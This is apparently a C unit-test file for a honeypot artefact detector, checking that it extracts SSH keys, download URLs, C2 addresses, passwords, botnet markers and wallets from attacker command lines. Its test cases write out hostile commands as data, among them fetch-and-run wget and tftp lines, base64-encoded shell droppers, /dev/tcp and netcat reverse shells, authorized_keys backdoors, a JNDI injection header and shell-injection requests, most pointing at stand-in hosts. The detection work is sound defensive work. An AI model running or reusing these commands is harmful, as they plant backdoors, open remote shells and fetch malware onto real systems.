/* test_artefacts.c - exclusive artefacts: every dialect of planting, fetching and connecting; what is public; wallets by
 * checksum; hostile lines; and the counts in real logs (skipped with a reason when those are absent). */
#include "testing.h"

#include <math.h>
#include <stdio.h>
#include <stdlib.h>

#include "detect/text/artefacts.h"
#include "detect/text/public_artefacts.h"
#include "detect/text/wallet.h"
#include "real.h"
#include "sessions.h"

struct found {
	char text[8192];
	size_t len, calls;
};

static void
collect(void *context, const struct artefact *a)
{
	struct found *found = context;
	int n = snprintf(found->text + found->len, sizeof(found->text) - found->len, "%s%s %.*s%s",
	    found->len > 0 ? " | " : "", artefact_kind_name(a->kind), SV_ARG(a->value),
	    a->is_public ? " PUBLIC" : "");

	assert_true(a->value.len > 0);
	found->calls++;
	if (n > 0 && found->len + (size_t)n < sizeof(found->text))
		found->len += (size_t)n;
	found->text[found->len] = '\0';
}

static void
scan(struct sv line, struct found *found)
{
	struct arena *scratch = arena_new(8 << 20);

	*found = (struct found){ .len = 0 };
	artefacts_of_line(line, scratch, collect, found);
	assert_int_equal(arena_used(scratch), 0);
	arena_free(scratch);
}

#define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
#define KEY_NAME "ssh_key SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA"

/* a blob with '+' in it, which must not be taken for a blank */
#define PLUS_KEY "AAAAB3NzaC1yc2EAAAADAQABAAAAIAEC++++++++++++++++++++++++++++++++++++++++"
#define PLUS_NAME "ssh_key SHA256:2k66OERseAs2uIB0iLcBWSm+dl5AmKTuFUopHP0Fy2s"

static void
test_lines(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *want;
	} cases[] = {
		{ "", "" },
		{ "uname -a", "" },
		/* keys */
		{ "echo \"ssh-ed25519 " KEY " me\">>~/.ssh/authorized_keys", KEY_NAME },
		{ "echo 'ssh-ed25519 " KEY " me' >> .ssh/authorized_keys; echo ssh-ed25519 " KEY " you > x", KEY_NAME },
		{ "echo ssh-ed25519 " KEY, KEY_NAME },
		{ "sh -c \"echo ssh-ed25519 " KEY " >> k\"", KEY_NAME },
		{ "grep -v '" KEY "' a", KEY_NAME },
		{ "echo AAAAC3NzaC1lZDI1NTE5AAAAI", "" },
		{ "grep -v 'AAAAB3NzaC1yc2EAAAA ssh-ed25519 " KEY "'", KEY_NAME },
		/* fetching */
		{ "wget http://198.51.100.9/x.sh", "url 198.51.100.9/x.sh" },
		{ "wget 198.51.100.9/x.sh -O- | sh", "url 198.51.100.9/x.sh" },
		{ "/bin/busybox wget http://198.51.100.9/b.mips -O - > .t; busybox wget http://198.51.100.9/b.arm7", "url 198.51.100.9/b.<arch>" },
		{ "wget -q -O /tmp/x.y http://Evil.example.org:80/a", "url evil.example.org/a" },
		{ "curl -o a.sh evil.example.org/a.sh", "url evil.example.org/a.sh" },
		{ "wget --user-agent 'Mozilla/5.0' http://198.51.100.9/", "url 198.51.100.9/" },
		{ "tftp 198.51.100.9 -c get t1.sh", "url 198.51.100.9/t1.sh" },
		{ "tftp -r t2.sh -g 198.51.100.9", "url 198.51.100.9/t2.sh" },
		{ "tftp -g -r ah 198.51.100.9", "url 198.51.100.9/ah" },
		{ "tftp -l.i -r.i -g 198.51.100.9:1500", "url 198.51.100.9:1500/.i" },
		{ "ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 ftp1.sh ftp2.sh", "url 198.51.100.9/ftp2.sh" },
		{ "ftpget 198.51.100.9 a", "url 198.51.100.9/a" },
		{ "wget -g 198.51.100.9 -l /tmp/x -r /y.mips", "url 198.51.100.9/y.<arch>" },
		{ "python -c 'import urllib; urllib.urlopen(\"http://198.51.100.9/p\")'", "url 198.51.100.9/p" },
		{ "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3guc2g7IHNoIHguc2g=|base64 -d|sh", "url 198.51.100.9/x.sh" },
		{ "wget", "" },
		{ "tftp; wget; /bin/busybox tftp", "" },
		{ "wget -O out.sh", "" },
		{ "curl http://ipinfo.io/ip", "url ipinfo.io/ip PUBLIC" },
		{ "wget https://github.com/xmrig/xmrig/releases/download/v6.1/x.tar.gz", "url github.com/xmrig/xmrig/releases/download/v6.1/x.tar.gz PUBLIC" },
		{ "wget http://notipinfo.io/x", "url notipinfo.io/x" },
		/* connecting */
		{ "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "c2 198.51.100.9:4444" },
		{ "nc -e /bin/sh 198.51.100.9 4444", "c2 198.51.100.9:4444" },
		{ "nc -lvp 4444", "" },
		{ "nc host", "" },
		{ "./xmrig -o pool.supportxmr.com:3333 -u x", "c2 pool.supportxmr.com:3333 PUBLIC" },
		{ "./m --url=stratum+tcp://198.51.100.9:3333", "" },
		{ "./m -o stratum+tcp://198.51.100.9:3333", "c2 198.51.100.9:3333" },
		{ "sort -o a:b", "" },
		/* passwords */
		{ "echo \"root:pfE31FFz7D7q\"|chpasswd|bash", "password pfE31FFz7D7q" },
		{ "echo -e \"old\\nFzGoWjiG3zxt\\nFzGoWjiG3zxt\"|passwd|bash", "password FzGoWjiG3zxt" },
		{ "XBWk2DfaVCtdANvbugnv'|passwd|sh;", "password XBWk2DfaVCtdANvbugnv" },
		{ "chpasswd <<< root:Quatsch99", "password Quatsch99" },
		{ "useradd -o x -p 's3cretpass'", "password s3cretpass" },
		{ "echo root:root|chpasswd", "password root PUBLIC" },
		{ "echo hello", "" },
		/* markers */
		{ "/bin/busybox FBOT", "marker busybox FBOT" },
		{ "/bin/busybox MIRAI", "marker busybox MIRAI PUBLIC" },
		{ "/bin/busybox ECCHI; /bin/busybox wget; busybox ps", "marker busybox ECCHI PUBLIC" },
		{ "busybox cat /proc/mounts", "" },
		{ "busybox X-Y", "" },
		{ "/bin/busybox PFBGP", "" },
		{ "/bin/busybox OWARI", "marker busybox OWARI" },
		{ "echo -e '\\x77\\x76\\x65\\x62\\x69'", "" },
		{ "wget http://192.168.1.1:8088/i", "url 192.168.1.1:8088/i PUBLIC" },
		{ "nc 127.0.0.1 4444", "c2 127.0.0.1:4444 PUBLIC" },
		{ "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", "marker echo gayfgt PUBLIC" },
		{ "echo -en \\x6d\\x69\\x6e\\x65\\x72\\x77\\x6f\\x72\\x64", "marker echo minerword" },
		{ "echo -en '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00'", "" },
		{ "echo -en '\\x45\\x4c\\x46'", "" },
		{ "echo \"321\" > /var/tmp/.var03522123", "marker file /var/tmp/.var03522123" },
		{ "echo 1 > /proc/12345678/oom", "" },
		{ "cat /var/tmp/.var03522123 | head -n 1", "" },
	};
	/* clang-format on */
	struct found got;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		scan(sv_from(cases[i].line), &got);
		if (strcmp(got.text, cases[i].want) != 0)
			fail_msg(
			    "%s\n  got  %s\n  want %s", cases[i].line, got.text, cases[i].want);
	}
}

static void
note(void *context, const struct artefact *a)
{
	char *out = context;

	snprintf(out, 65, "%.*s", SV_ARG(a->note));
}

static void
test_comment(void **state)
{
	struct arena *scratch = arena_new(1 << 20);
	char got[65] = "";

	(void)state;
	artefacts_of_line(SV("echo \"ssh-ed25519 " KEY " mdr fckr\">>k"), scratch, note, got);
	assert_string_equal(got, "mdr fckr");
	artefacts_of_line(SV("echo ssh-ed25519 " KEY " mdrfckr >>k"), scratch, note, got);
	assert_string_equal(got, "mdrfckr");
	artefacts_of_line(SV("echo ssh-ed25519 " KEY " > k"), scratch, note, got);
	assert_string_equal(got, "");
	arena_free(scratch);
}

static void
test_session(void **state)
{
	static const char payload[] =
	    "t('${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//"
	    "198.51.100.9:6583/TomcatBypass/Command/Base64/"
	    "Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3guc2g7IHNoIHguc2g=}')";
	static const struct test_item items[] = {
		{ ITEM_COMMAND, "/bin/busybox FBOT", NULL, 0 },
		{ ITEM_COMMAND, "/bin/busybox FBOT", NULL, ITEM_FAILED },
		{ ITEM_URL, "http://198.51.100.8/a.arm", NULL, 0 },
		{ ITEM_FILE_HASH,
		    "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "x", 0 },
		{ ITEM_FILE_HASH,
		    "1111111111111111111111111111111111111111111111111111111111111111", "x",
		    ITEM_TRIVIAL },
		{ ITEM_FILE_HASH, "not a hash", "x", 0 },
		{ ITEM_PUBLIC_KEY, "aa:bb", "ssh-ed25519 " KEY, 0 },
		{ ITEM_PUBLIC_KEY, "aa:bb", NULL, 0 },
		{ ITEM_HEADER, "x-api-version", payload, 0 },
		{ ITEM_HEADER, "referer", "http://198.51.100.7/not/fetched", 0 },
		{ ITEM_REQUEST, "GET /shell?cd+/tmp;wget+http:/%5C/198.51.100.6/..j/.j;sh+.j", NULL,
		    0 },
		{ ITEM_PAYLOAD, "/bin/busybox SORA; echo ssh-rsa " PLUS_KEY, NULL, 0 },
		{ ITEM_REQUEST, "POST /x",
		    "<a xmlns=\"http://schemas.example.net/\">$(/bin/busybox wget -g 198.51.100.5 "
		    "-l /tmp/k "
		    "-r /m)</a>",
		    0 },
	};
	struct session_table table = session_by_hand(SERVICE_WEB, items, COUNT_OF(items), NULL);
	struct arena *scratch = arena_new(1 << 20);
	struct found got = { .len = 0 };

	(void)state;
	artefacts_of_session(&table, 0, scratch, collect, &got);
	assert_string_equal(got.text,
	    "marker busybox FBOT"
	    " | url 198.51.100.8/a.<arch>"
	    " | file_hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 PUBLIC"
	    " | " KEY_NAME " | ssh_key aa:bb"
	    " | c2 198.51.100.9:6583"
	    " | url 198.51.100.9/x.sh"
	    " | url 198.51.100.6/..j/.j"
	    " | marker busybox SORA | " PLUS_NAME " | url 198.51.100.5/m");
	arena_free(scratch);
	session_table_free(&table);
}

static void
test_wallets(void **state)
{
	static const char *const good[] = {
		"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", /* block 0 */
		"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
		"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",                     /* BIP 173 */
		"bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0", /* BIP 350 */
		"0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
		"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2"
		"wfn3"
		"RVGQBEP3A",
	};
	static const char *const bad[] = { "", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
		"3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLz", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5",
		"0x0000000000000000000000000000000000000000",
		"0x742d35Cc6634C0532925a3b844Bc454e4438f44g",
		"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2"
		"wfn3"
		"RVGQBEP30",
		"1111111111111111111111111111111111111" };

	(void)state;
	for (size_t i = 0; i < COUNT_OF(good); i++)
		if (!wallet_is_address(sv_from(good[i])))
			fail_msg("%s is an address", good[i]);
	for (size_t i = 0; i < COUNT_OF(bad); i++)
		if (wallet_is_address(sv_from(bad[i])))
			fail_msg("%s is none", bad[i]);
}

static void
test_bayes(void **state)
{
	(void)state;
	assert_true(fabs(artefact_log_bayes(ARTEFACT_SSH_KEY) - log(1e4)) < 1e-9);
	assert_true(fabs(artefact_log_bayes(ARTEFACT_URL) - log(1e3)) < 1e-9);
	assert_true(fabs(artefact_log_bayes(ARTEFACT_MARKER) - log(1e2)) < 1e-9);
	for (int kind = 0; kind < ARTEFACT_KIND_COUNT; kind++)
		assert_true(artefact_log_bayes((enum artefact_kind)kind) > 0);
}

/** Every entry of the table of public artefacts is found by its own value, and says why it is there. */
static void
test_public_table(void **state)
{
	const struct public_entry *entry;
	size_t n = 0;

	(void)state;
	for (; (entry = public_artefacts_entry(n)) != NULL; n++) {
		assert_true(public_artefact(entry->kind, sv_from(entry->value)));
		assert_true(strlen(entry->why) > 3);
	}
	assert_true(n > 50);
	assert_int_equal(strlen(public_artefacts_version()), 10);
	assert_false(public_artefact(ARTEFACT_URL, SV("evil.example.org/xmrig")));
	assert_false(public_artefact(ARTEFACT_URL, SV("drive.google.com/uc?id=1")));
	assert_true(public_artefact(ARTEFACT_URL, SV("[fe80::1]:80/x")));
	assert_false(public_artefact(ARTEFACT_URL, SV("[2001:db8::1]:80/x")));
	assert_true(public_artefact(ARTEFACT_C2, SV("172.31.0.1:80")));
	assert_false(public_artefact(ARTEFACT_C2, SV("172.32.0.1:80")));
	assert_true(public_artefact(ARTEFACT_C2, SV("eu.minexmr.com:443")));
	assert_false(public_artefact(ARTEFACT_C2, SV("minexmr.com.evil.net:443")));
	assert_true(public_artefact(ARTEFACT_PASSWORD, SV("12345678")));
	assert_false(public_artefact(ARTEFACT_PASSWORD, SV("kjh7cv2pq")));
}

static void
count_public(void *context, const struct artefact *a)
{
	int *hashes = context;

	if (a->kind == ARTEFACT_FILE_HASH)
		hashes[a->is_public]++;
}

/** What lies in an open repository is there for everybody, and so is the file that was fetched from it; a file from
 *  anywhere else, or of another moment, is not. */
static void
test_fetched_from_an_open_repository(void **state)
{
	static const struct {
		const char *url, *other;
		uint32_t hash_ms;
		bool is_public;
	} cases[] = {
		{ "https://raw.githubusercontent.com/someone/tools/main/setup.sh", NULL, 500,
		    true },
		{ "https://github.com/someone/tools/releases/download/v1/x", NULL, 500, true },
		{ "https://raw.githubusercontent.com/someone/tools/main/setup.sh", NULL, 501,
		    false },
		{ "https://raw.githubusercontent.com/a/b/c", "http://198.51.100.7/x", 500, false },
		{ "http://198.51.100.7/setup.sh", NULL, 500, false },
		{ "http://127.0.0.1/setup.sh", NULL, 500, false },
		{ "http://github.com.example.net/setup.sh", NULL, 500, false },
	};
	struct arena *scratch = arena_new(0);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct session_row_item items[3] = {
			{ .a = sv_from(cases[i].url), .kind = ITEM_URL, .offset_ms = 500 }
		};
		struct session_row row = { .source = addr_from_v4(0xc6336401),
			.start_us = INT64_C(1580000000000000),
			.end_us = INT64_C(1580000001000000),
			.duration_us = -1,
			.n_items = 2,
			.items = items };
		struct session_builder *builder = session_builder_new();
		struct session_table table;
		int hashes[2] = { 0, 0 };

		if (cases[i].other != NULL)
			items[row.n_items++ - 1] = (struct session_row_item){
				.a = sv_from(cases[i].other), .kind = ITEM_URL, .offset_ms = 500
			};
		items[row.n_items - 1] = (struct session_row_item){
			.a = SV("7cfa39a732eff4459a6fffc676b45717053b560d0fa395e50c6fcd6d21ff0a7f"),
			.kind = ITEM_FILE_HASH,
			.offset_ms = cases[i].hash_ms
		};
		assert_int_equal(session_builder_add(builder, &row, NULL), COORD_OK);
		assert_int_equal(session_builder_finish(builder, &table, NULL, NULL), COORD_OK);
		artefacts_of_session(&table, 0, scratch, count_public, hashes);
		if (hashes[cases[i].is_public] != 1 || hashes[!cases[i].is_public] != 0)
			fail_msg("%s", cases[i].url);
		session_table_free(&table);
		session_builder_free(builder);
	}
	arena_free(scratch);
}

/** A session that holds thousands of artefacts gives the first ARTEFACTS_SESSION_MAX. */
static void
test_limit(void **state)
{
	struct found got;
	char *line = malloc(60000);
	size_t len = 0;

	(void)state;
	for (int i = 0; i < 2000; i++)
		len += (size_t)snprintf(line + len, 60000 - len, "busybox Z%d;", i);
	scan((struct sv){ line, len }, &got);
	assert_int_equal(got.calls, ARTEFACTS_SESSION_MAX);
	free(line);
}

static void
test_hostile(void **state)
{
	static const char *const fillers[] = { "http://", "://", "http://a.b/ ", "wget ",
		"AAAAB3NzaC1yc2", "/dev/tcp/", "${jndi:", "${", "nc a 1;", "echo x|passwd;", ":",
		"\\x41", "busybox A;", "4", "tftp -g ", "> /tmp/99999 ", "1.2.3.4 ", "-o a:1 " };
	size_t size = 1 << 20;
	char *line = malloc(size);
	struct found got;

	(void)state;
	for (size_t k = 0; k < COUNT_OF(fillers); k++) {
		size_t n = strlen(fillers[k]);

		for (size_t i = 0; i < size; i++)
			line[i] = fillers[k][i % n];
		scan((struct sv){ line, size }, &got);
		assert_true(got.calls <= ARTEFACTS_SESSION_MAX);
	}
	free(line);
}

/** How many distinct sources carry one artefact in a real set. */
struct carriers {
	const struct session_table *table;
	uint32_t row;
	const char *value;
	struct addr seen[2048];
	size_t sources, sessions;
};

static void
count_carrier(void *context, const struct artefact *a)
{
	struct carriers *c = context;

	if (!sv_eq(a->value, sv_from(c->value)))
		return;
	c->sessions++;
	for (size_t i = 0; i < c->sources; i++)
		if (addr_cmp(c->seen[i], c->table->source[c->row]) == 0)
			return;
	if (c->sources < COUNT_OF(c->seen))
		c->seen[c->sources++] = c->table->source[c->row];
}

static void
test_real(void **state)
{
	static const struct {
		const char *set, *value;
		size_t sources, sessions; /* 0: requests have no session of their own */
	} cases[] = {
		{ "cowrie-tpot-2020", "SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw", 135,
		    157 },
		{ "cowrie-tpot-2020", "SHA256:DO581XF77zlDh2RnrMN6UQPGK6eiBpy0bBYVZu9NYOA", 11,
		    12 },
		{ "cowrie-tpot-2020", "busybox FBOT", 196, 1277 },
		{ "cowrie-tpot-2020", "file /var/tmp/.var03522123", 645, 736 },
		{ "cowrie-tpot-2020", "echo minerword", 22, 22 },
		{ "cowrie-aws-2022", "SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw", 2, 2 },
		{ "cowrie-aws-2022", "echo gayfgt", 22, 23 },
		{ "cowrie-2018", "mdb7.cn:8081/exp", 3, 3 },
		{ "tpot-other-2020",
		    "0d3c687ffc30e185b836b99bd07fa2b0d460a090626f6bbbd40a95b98ea70257", 34, 62 },
		{ "tpot-other-2020", "188.209.49.244/test.sh", 51, 58 },
		{ "dshield-2023", "141.147.79.97:6583", 1, 0 },
		{ "dshield-2023",
		    "486xqw7ysXdKw7RkVzT5tdSiDtE6soxUdYaGaGE1GoaCdvBF7rVg5oMXL9pFx3rB1WUCZrJvd6AHMF"
		    "Wi"
		    "peYt5eFNUx9pmGN",
		    1, 1 },
	};
	static struct carriers c;
	struct arena *scratch = arena_new(16 << 20);
	struct session_table table;
	const char *loaded = "";
	bool there = false;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		if (strcmp(loaded, cases[i].set) != 0) {
			if (there)
				session_table_free(&table);
			there = real_load(cases[i].set, &table);
			loaded = cases[i].set;
		}
		if (!there)
			continue;
		c = (struct carriers){ .table = &table, .value = cases[i].value };
		for (; c.row < table.n; c.row++)
			artefacts_of_session(&table, c.row, scratch, count_carrier, &c);
		if (c.sources != cases[i].sources ||
		    (cases[i].sessions != 0 && c.sessions != cases[i].sessions))
			fail_msg("%s %s: %zu sources, %zu sessions", cases[i].set, cases[i].value,
			    c.sources, c.sessions);
	}
	if (there)
		session_table_free(&table);
	arena_free(scratch);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_lines),
		cmocka_unit_test(test_comment),
		cmocka_unit_test(test_session),
		cmocka_unit_test(test_wallets),
		cmocka_unit_test(test_bayes),
		cmocka_unit_test(test_public_table),
		cmocka_unit_test(test_fetched_from_an_open_repository),
		cmocka_unit_test(test_limit),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_real),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
